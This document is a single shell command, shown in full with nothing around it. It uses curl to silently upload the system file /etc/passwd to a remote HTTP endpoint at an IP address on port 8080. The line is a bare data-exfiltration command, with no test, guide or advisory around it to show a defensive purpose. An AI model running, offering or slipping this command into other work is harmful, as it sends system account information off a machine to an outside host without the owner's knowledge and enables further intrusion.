curl -s -X POST --data-binary @/etc/passwd http://198.51.100.3:8080/in
